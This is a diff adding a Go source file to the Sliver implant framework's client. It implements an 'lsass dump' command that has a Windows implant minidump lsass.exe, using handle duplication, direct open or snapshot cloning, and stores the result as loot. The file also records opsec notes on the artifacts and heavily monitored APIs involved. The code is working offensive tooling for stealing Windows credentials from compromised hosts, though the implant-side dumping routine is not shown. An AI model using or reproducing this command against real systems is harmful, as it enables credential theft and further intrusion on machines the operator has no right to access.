@@ -0,0 +1,98 @@
+package processes
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+
+	"github.com/bishopfox/sliver/client/command/help"
+	"github.com/bishopfox/sliver/client/console"
+	consts "github.com/bishopfox/sliver/client/constants"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/desertbit/grumble"
+	"google.golang.org/protobuf/proto"
+)
+
+func init() {
+	help.RegisterOpsec(consts.LsassDumpStr, &help.OpsecInfo{
+		Risk:      help.OpsecHigh,
+		Artifacts: []string{"handle to lsass.exe duplicated from another process (or opened with --technique open)", "a PssCaptureSnapshot clone of lsass with --clone"},
+		Network:   "upload of the whole encrypted dump",
+		APIs:      []string{"NtQuerySystemInformation", "DuplicateHandle", "MiniDumpWriteDump on lsass.exe (heavily monitored)"},
+	})
+}
+
+// LsassDumpCmd - Minidump lsass straight into the loot store
+func LsassDumpCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	session, beacon := con.ActiveTarget.GetInteractive()
+	if session == nil && beacon == nil {
+		return
+	}
+	if getOS(session, beacon) != "windows" {
+		con.PrintErrorf("Command not supported on this operating system\n")
+		return
+	}
+
+	ctrl := make(chan bool)
+	con.SpinUntil("Dumping lsass ...", ctrl)
+	lsassDump, err := con.Rpc.LsassDump(context.Background(), &sliverpb.LsassDumpReq{
+		Technique: ctx.Flags.String("technique"),
+		Clone:     ctx.Flags.Bool("clone"),
+		Pid:       int32(ctx.Flags.Int("pid")),
+		LootName:  ctx.Flags.String("loot-name"),
+		Request:   con.ActiveTarget.Request(ctx),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	if lsassDump.Response != nil && lsassDump.Response.Async {
+		con.AddBeaconCallback(lsassDump.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, lsassDump)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			PrintLsassDump(lsassDump, con)
+		})
+		con.PrintAsyncResponse(lsassDump.Response)
+	} else {
+		PrintLsassDump(lsassDump, con)
+	}
+}
+
+// PrintLsassDump - Print where the dump of lsass was saved
+func PrintLsassDump(lsassDump *sliverpb.LsassDump, con *console.SliverConsoleClient) {
+	if lsassDump.Response != nil && lsassDump.Response.Err != "" {
+		con.PrintErrorf("%s\n", lsassDump.Response.Err)
+		return
+	}
+	technique := lsassDump.Technique
+	if technique == "" {
+		technique = "duplicate"
+	}
+	if lsassDump.Clone {
+		technique += ", clone"
+	}
+	con.PrintInfof("Dumped lsass (pid %d, %s), %d bytes saved as loot %s\n",
+		lsassDump.Pid, technique, lsassDump.Size, lsassDump.LootID)
+}